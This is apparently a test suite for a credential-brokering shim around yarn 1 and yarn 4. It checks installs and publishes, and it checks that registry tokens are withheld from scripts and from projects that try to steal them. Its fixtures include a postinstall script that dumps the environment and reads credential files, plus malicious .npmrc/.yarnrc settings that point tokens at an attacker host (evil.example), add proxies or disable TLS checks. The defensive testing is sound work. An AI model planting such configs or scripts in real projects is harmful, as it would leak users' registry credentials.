/** yarn 1 and yarn 4 with their shim: install and publish, and projects that want the token. */
import { describe, expect, test } from "bun:test";
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { ended } from "../../../laptop.ts";
import { requires } from "../../../requires.ts";
import { filesContaining } from "../../disk.ts";
import { type Files, ours, outcome, plain, tools, useJavascriptLaptop } from "./javascript-projects.ts";

const used = useJavascriptLaptop(["--tool", "yarn"]);

const bins = { classic: join(tools, "yarn-1/node_modules/.bin"), berry: join(tools, "yarn/node_modules/.bin") };
const run = (line: keyof typeof bins, command: string[], files: Files, env: Record<string, string | undefined> = {}) =>
  used.run(bins[line], command, { "yarn.lock": "", ...files }, env);
const installed = () => existsSync(join(used.folder(), "node_modules/my-lib/index.js"));

/** Writes its environment, and what it can read of what yarn was given, beside the package. */
const scripts = {
  postinstall:
    "node -e \"const fs=require('fs');const e=process.env;let s=JSON.stringify(e);for(const n of ['/proc/self/fd/200',e.npm_config_userconfig])try{s+=fs.readFileSync(n,'utf8')}catch{};fs.writeFileSync('seen.txt',s)\"",
};
const withScript = JSON.stringify({ name: "app", version: "1.0.0", dependencies: { "my-lib": "1.0.0" }, scripts });

describe.skipIf(!requires(join(bins.berry, "yarn")))("yarn 4", () => {
  const rc = "nodeLinker: node-modules\n";

  test("installs, and no script sees token or plugin", async () => {
    expect(outcome(await run("berry", ["yarn", "install"], { ".yarnrc.yml": rc, "package.json": withScript }))).toEqual(
      {
        exitCode: 0,
        text: "",
      },
    );
    expect(installed()).toBe(true);
    const seen = readFileSync(join(used.folder(), "seen.txt"), "utf8");
    expect(seen).toContain("npm_lifecycle_event");
    expect(seen).not.toMatch(/vouch-sandbox-token|YARN_PLUGINS/);
  });

  test("publishes", async () => {
    const files = { ".yarnrc.yml": rc, "package.json": '{"name":"of-berry","version":"1.0.0"}' };
    expect(outcome(await run("berry", ["sh", "-c", "yarn install && yarn npm publish"], files))).toEqual({
      exitCode: 0,
      text: "",
    });
  });

  test("without an agent says nothing in a command that asks no registry, and what is missing in one that does", async () => {
    const nobody = { VOUCH_RUNTIME_DIR: join(used.laptop.folder, "nobody") };
    const files = { ".yarnrc.yml": rc, "package.json": withScript };
    const silent = await run("berry", ["yarn", "--version"], files, nobody);
    expect(silent).toMatchObject({ exitCode: 0, stderr: "" });
    const { stdout, stderr } = await run("berry", ["yarn", "install"], files, nobody);
    expect(stdout + stderr).toContain("vouch: Not logged in: the Vouch agent is not running. Run `vouch login`.");
    expect(installed()).toBe(false);
  });

  const lock = (url: string): string =>
    `__metadata:\n  version: 10\n  cacheKey: 10c0\n\n"my-lib@npm:1.0.0":\n  version: 1.0.0\n` +
    `  resolution: "my-lib@npm:1.0.0::__archiveUrl=${encodeURIComponent(url)}"\n  languageName: node\n  linkType: hard\n\n` +
    `"app@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "app@workspace:."\n  dependencies:\n    my-lib: "npm:1.0.0"\n` +
    `  languageName: unknown\n  linkType: soft\n`;
  const http = 'unsafeHttpWhitelist: ["*"]\n';

  test.each<[what: string, files: (url: string, ca: string) => Files, words: RegExp | undefined]>([
    [
      "another server",
      (url) => ({ ".yarnrc.yml": `npmRegistryServer: "${url}"\nnpmAlwaysAuth: true\n${http}` }),
      undefined,
    ],
    [
      "an archive elsewhere in the lock file",
      (url) => ({ ".yarnrc.yml": http, "yarn.lock": lock(`${url}/my-lib-1.0.0.tgz`) }),
      undefined,
    ],
    [
      "an archive on the registry's host by plain http",
      () => ({ ".yarnrc.yml": http, "yarn.lock": lock(`${plain}my-lib/-/my-lib-1.0.0.tgz`) }),
      undefined,
    ],
    ["plain http", () => ({ ".yarnrc.yml": `npmRegistryServer: "${plain}"\nnpmAlwaysAuth: true\n${http}` }), undefined],
    [
      "the server of a scope",
      (url) => ({
        ".yarnrc.yml": `npmScopes:\n  acme:\n    npmRegistryServer: "${url}"\n    npmAlwaysAuth: true\n${http}`,
        "package.json": '{"name":"app","dependencies":{"@acme/lib":"1.0.0"}}',
      }),
      undefined,
    ],
    [
      "certificates that are not checked",
      () => ({ ".yarnrc.yml": "enableStrictSsl: false\n" }),
      /enableStrictSsl in .*yarnrc\.yml/,
    ],
    [
      "a proxy and an authority",
      (url) => ({ ".yarnrc.yml": `httpsProxy: "${url}"\nhttpsCaFilePath: ./ca.pem\n` }),
      /https(Proxy|CaFilePath) in .*yarnrc\.yml/,
    ],
    [
      "a proxy for the host",
      (url) => ({
        ".yarnrc.yml": `networkSettings:\n  "*.amazonaws.com":\n    httpsProxy: "${url}"\n    httpsCaFilePath: ./ca.pem\n`,
      }),
      /networkSettings in .*yarnrc\.yml/,
    ],
    [
      "a proxy in a file of variables",
      (url) => ({
        ".yarnrc.yml": "injectEnvironmentFiles:\n  - .vars\n",
        ".vars": `YARN_HTTPS_PROXY=${url}\nHTTPS_PROXY=${url}\nNODE_TLS_REJECT_UNAUTHORIZED=0\nYARN_ENABLE_STRICT_SSL=0\n`,
      }),
      undefined,
    ],
  ])("gives no token where the project names %s", async (_, files, words) => {
    const { evil } = used;
    const all = files(evil.url, evil.ca);
    const { stderr, stdout } = await run(
      "berry",
      ["yarn", "install"],
      { "ca.pem": evil.ca, ...all, ".yarnrc.yml": rc + all[".yarnrc.yml"] },
      {
        YARN_HTTPS_PROXY: undefined,
        YARN_HTTP_PROXY: undefined,
        YARN_HTTPS_CA_FILE_PATH: undefined,
      },
    );
    if (words !== undefined) expect(stdout + stderr).toMatch(words);
  });
});

describe.skipIf(!requires(join(bins.classic, "yarn")))("yarn 1", () => {
  const install = ["yarn", "install", "--non-interactive"];
  /** It knows no other variable for the user's authorities. */
  const trust = () => ({ npm_config_cafile: used.laptop.env["npm_config_cafile"] });

  test("installs, and no script sees the token", async () => {
    expect(outcome(await run("classic", install, { "package.json": withScript }, trust()))).toEqual({
      exitCode: 0,
      text: "",
    });
    expect(installed()).toBe(true);
    const seen = readFileSync(join(used.folder(), "seen.txt"), "utf8");
    expect(seen).toContain("npm_config_userconfig");
    expect(seen).not.toContain("vouch-sandbox-token");
  });

  test("publishes", async () => {
    const files = { "package.json": '{"name":"of-classic","version":"1.0.0"}' };
    expect(outcome(await run("classic", ["yarn", "publish", "--non-interactive"], files, trust()))).toEqual({
      exitCode: 0,
      text: "",
    });
  });

  /** The names of hosts that an installation without a proxy in the environment asks for; it finds none. */
  async function namesAskedFor(env: Record<string, string> = {}) {
    const proxies = ["HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "YARN_HTTPS_PROXY", "YARN_HTTP_PROXY"];
    const none = Object.fromEntries(["NO_PROXY", "no_proxy", ...proxies].map((name) => [name, undefined]));
    const asked = join(used.laptop.folder, "asked-for.txt");
    writeFileSync(asked, "");
    const hook = join(used.laptop.folder, "no-names.cjs");
    writeFileSync(
      hook,
      `require("node:dns").lookup = (name, options, answer) => {
        require("node:fs").appendFileSync(${JSON.stringify(asked)}, name + "\\n");
        (answer ?? options)(Object.assign(new Error("no names here"), { code: "EREFUSED" }));
      };`,
    );
    const all = { ...none, ...trust(), NODE_OPTIONS: `--require ${hook}`, ...env };
    const { stderr } = await run("classic", install, {}, all);
    expect(stderr).toContain("no names here");
    return [...new Set(readFileSync(asked, "utf8").trim().split("\n"))];
  }

  test("connects directly where there is no proxy", async () => {
    expect(await namesAskedFor()).toEqual([new URL(plain).hostname]);
  });

  test("connects through a proxy of the user's ~/.yarnrc, or of yarn's variables", async () => {
    const own = join(used.laptop.home, ".yarnrc");
    writeFileSync(own, 'proxy "http://proxy.example:8080"\n');
    expect(await namesAskedFor()).toEqual(["proxy.example"]);
    rmSync(own);
    expect(await namesAskedFor({ YARN_PROXY: "http://other.example:8080" })).toEqual(["other.example"]);
  });

  test("gives no token where the lock file names a host that the user's own ~/.npmrc has a credential for", async () => {
    const own = join(used.laptop.home, ".npmrc");
    writeFileSync(own, "//evil.example/:_authToken=x\n");
    const lock = `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "http://evil.example/my-lib-1.0.0.tgz"\n`;
    const { stderr } = await run("classic", [...install, "--ignore-scripts"], { "yarn.lock": lock });
    rmSync(own);
    expect(stderr).toMatch(/yarn\.lock: my-lib comes from evil\.example, for which your own \.npmrc has a credential/);
    expect(used.network.requests.join("\n")).toContain("GET http://evil.example/my-lib-1.0.0.tgz");
  });

  test.each<[what: string, files: (url: string) => Files, words: RegExp | undefined]>([
    ["another registry", (url) => ({ ".npmrc": `registry=${url}/\nalways-auth=true\n` }), undefined],
    ["another registry in .yarnrc", (url) => ({ ".yarnrc": `registry "${url}/"\n` }), undefined],
    ["plain http", () => ({ ".npmrc": `registry=${plain}\n` }), /\.npmrc: registry .*plain http/],
    ["plain http in .yarnrc", () => ({ ".yarnrc": `registry "${plain}"\n` }), /\.yarnrc: .*plain http/],
    [
      "plain http for a scope",
      () => ({ ".npmrc": `@acme:registry=${plain}\n` }),
      /\.npmrc: @acme:registry .*plain http/,
    ],
    [
      "plain http in the lock file",
      () => ({
        "yarn.lock": `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "${plain}my-lib/-/my-lib-1.0.0.tgz"\n`,
      }),
      /yarn\.lock: .*plain http/,
    ],
    [
      "another repository of the host in the lock file",
      () => ({
        "yarn.lock": `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "${ours}../other/my-lib-1.0.0.tgz"\n`,
      }),
      /yarn\.lock: .*another repository of a host that gets the token/,
    ],
    [
      "a proxy and no checks",
      (url) => ({ ".npmrc": `https-proxy=${url}\nstrict-ssl=false\n` }),
      /\.npmrc: (https-proxy|strict-ssl)/,
    ],
    [
      "a proxy in .yarnrc",
      (url) => ({ ".yarnrc": `https-proxy "${url}"\nstrict-ssl false\n` }),
      /\.yarnrc: https-proxy/,
    ],
    [
      "a proxy as an option",
      (url) => ({ ".yarnrc": `"--install.https-\\u0070roxy" "${url}"\nstrict-ssl false\n` }),
      /\.yarnrc: --install\.https-proxy/,
    ],
    [
      "a proxy for every command",
      (url) => ({ ".yarnrc": `"--*.https-proxy" "${url}"\nstrict-ssl false\n` }),
      /\.yarnrc: --\*\.https-proxy/,
    ],
    [
      "another folder for every command, whose files lower the checks",
      (url) => ({
        ".yarnrc": `"--*.cwd" "./foo"\n"--*.https-proxy" "${url}"\n`,
        "foo/package.json": '{"name":"inner","dependencies":{"my-lib":"1.0.0"}}',
        "foo/.yarnrc": "strict-ssl false\n",
      }),
      /\.yarnrc: --\*\.cwd/,
    ],
    [
      "a file of settings for every command",
      (url) => ({
        ".yarnrc": '"--*.use-yarnrc" "./x.rc"\n',
        "x.rc": `https-proxy "${url}"\nstrict-ssl false\n`,
      }),
      /\.yarnrc: --\*\.use-yarnrc/,
    ],
    [
      "a proxy and another folder in .yarnrc.yml",
      (url) => ({
        ".yarnrc.yml": `"--*.cwd": "./foo"\n"--*.https-proxy": "${url}"\n`,
        "foo/package.json": '{"name":"inner","dependencies":{"my-lib":"1.0.0"}}',
        "foo/.yarnrc": "strict-ssl false\n",
      }),
      /\.yarnrc\.yml: --\*\.cwd/,
    ],
    ["a file of requests", () => ({ ".yarnrc": "--install.har true\n" }), /\.yarnrc: --install\.har/],
    ["another folder", () => ({ ".yarnrc": '"--cwd" "foo"\n', "foo/.npmrc": "strict-ssl=false\n" }), /\.yarnrc: --cwd/],
    ["an authority", () => ({ ".npmrc": "cafile=./ca.pem\n" }), /\.npmrc: cafile/],
    // Somebody in the network would see the request, which yarn 1 makes by plain http here.
    ...[
      ["a key for another host", "", "//evil.example/:_authToken=x\n"],
      ["an empty key for another host", "", "//evil.example/:_password=\n"],
      ["a key for another host in a folder above", "app/", "//evil.example/:_authToken=x\n"],
    ].map(([what, folder, npmrc]): [string, () => Files, RegExp] => [
      `${what}, and an archive there`,
      () => ({
        ".npmrc": npmrc!,
        [`${folder}package.json`]: '{"name":"inner","dependencies":{"my-lib":"1.0.0"}}',
        [`${folder}yarn.lock`]: `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "http://evil.example/my-lib-1.0.0.tgz"\n`,
      }),
      /\.npmrc: \/\/evil\.example\/:_(authToken|password) makes yarn 1 send its registry's token there/,
    ]),
    [
      "a proxy in a folder above",
      (url) => ({
        ".npmrc": `https-proxy=${url}\nstrict-ssl=false\n`,
        "app/package.json": '{"name":"inner","dependencies":{"my-lib":"1.0.0"}}',
      }),
      /\.npmrc: (https-proxy|strict-ssl)/,
    ],
  ])("gives no token where the project names %s", async (_, files, words) => {
    const { stderr } = await run(
      "classic",
      [...install, "--ignore-scripts"],
      { "ca.pem": used.evil.ca, ...files(used.evil.url) },
      { YARN_HTTPS_CA_FILE_PATH: undefined },
    );
    if (words !== undefined) expect(stderr).toMatch(words);
  });
});

describe.skipIf(!requires(join(bins.classic, "yarn"), join(bins.berry, "yarn")))(
  "a yarn that another one starts",
  () => {
    const releases = {
      "yarn-4.18.1.cjs": () => readFileSync(join(bins.berry, "../@yarnpkg/cli-dist/bin/yarn.js"), "utf8"),
      "yarn-1.22.22.cjs": () => readFileSync(join(bins.classic, "../yarn/lib/cli.js"), "utf8"),
    };

    test.each<[keyof typeof bins, keyof typeof releases]>([
      ["classic", "yarn-4.18.1.cjs"],
      ["berry", "yarn-4.18.1.cjs"],
      ["classic", "yarn-1.22.22.cjs"],
      ["berry", "yarn-1.22.22.cjs"],
    ])("installs: %s, the project's %s", async (line, release) => {
      const place = `.yarn/releases/${release}`;
      const files = { [place]: releases[release](), ".yarnrc.yml": `yarnPath: ${place}\nnodeLinker: node-modules\n` };
      const trust = { npm_config_cafile: used.laptop.env["npm_config_cafile"] };
      expect(outcome(await run(line, ["yarn", "install"], files, trust))).toEqual({ exitCode: 0, text: "" });
      expect(installed()).toBe(true);
    });

    const corepack = join(tools, "corepack/node_modules/.bin");
    test.skipIf(!requires(join(corepack, "yarn")))(
      "installs: corepack, with the version that the project names",
      async () => {
        const { version } = JSON.parse(readFileSync(join(bins.berry, "../@yarnpkg/cli-dist/package.json"), "utf8")) as {
          version: string;
        };
        const cache = join(used.laptop.home, ".cache/node/corepack/v1/yarn", version);
        mkdirSync(cache, { recursive: true });
        copyFileSync(join(bins.berry, "../@yarnpkg/cli-dist/bin/yarn.js"), join(cache, "yarn.js"));
        writeFileSync(
          join(cache, ".corepack"),
          JSON.stringify({ locator: { name: "yarn", reference: version }, bin: ["yarn", "yarnpkg"], hash: "sha1.x" }),
        );
        const manifest = { name: "app", packageManager: `yarn@${version}`, dependencies: { "my-lib": "1.0.0" } };
        const files = {
          "package.json": JSON.stringify(manifest),
          ".yarnrc.yml": "nodeLinker: node-modules\n",
          "yarn.lock": "",
        };
        expect(outcome(await used.run(corepack, ["yarn", "install"], files))).toEqual({ exitCode: 0, text: "" });
        expect(installed()).toBe(true);
      },
    );
  },
);

test("no token stands in any file", () => {
  expect(filesContaining(used.laptop.folder, /vouch-sandbox-token/)).toEqual([]);
});

describe("afterwards", () => {
  test.each<[keyof typeof bins, string[]]>([
    ["berry", ["yarn", "install"]],
    ["classic", ["yarn", "install", "--non-interactive"]],
  ])("without a session the command goes on, and says so once: %s", async (line, command) => {
    if (!requires(join(bins[line], "yarn"))) return;
    await used.laptop.vouch("logout");
    const { stdout, stderr, exitCode } = await run(line, command, { ".yarnrc.yml": "nodeLinker: node-modules\n" });
    expect((stdout + stderr).match(/vouch login/g)).toHaveLength(1);
    expect(exitCode).toBe(1);
  });

  test("a file of one's own is as it was when the setup is taken back, and the shims are gone", async () => {
    const path = join(used.laptop.home, ".yarnrc.yml");
    const remove = ["setup", "codeartifact", "--remove"];
    await ended(used.laptop.vouch(...remove));
    expect(existsSync(path)).toBe(false);
    const own = "# mine\nnpmRegistryServer: https://a.example\nenableTelemetry: false";
    writeFileSync(path, own);
    await used.laptop.setUpRepository("--tool", "yarn");
    const edited = readFileSync(path, "utf8");
    await used.laptop.setUpRepository("--tool", "yarn");
    expect(readFileSync(path, "utf8")).toBe(edited);
    expect(existsSync(join(used.laptop.shims, "yarn"))).toBe(true);
    await ended(used.laptop.vouch(...remove));
    expect(readFileSync(path, "utf8")).toBe(own);
    expect(existsSync(join(used.laptop.shims, "yarn"))).toBe(false);
  });
});
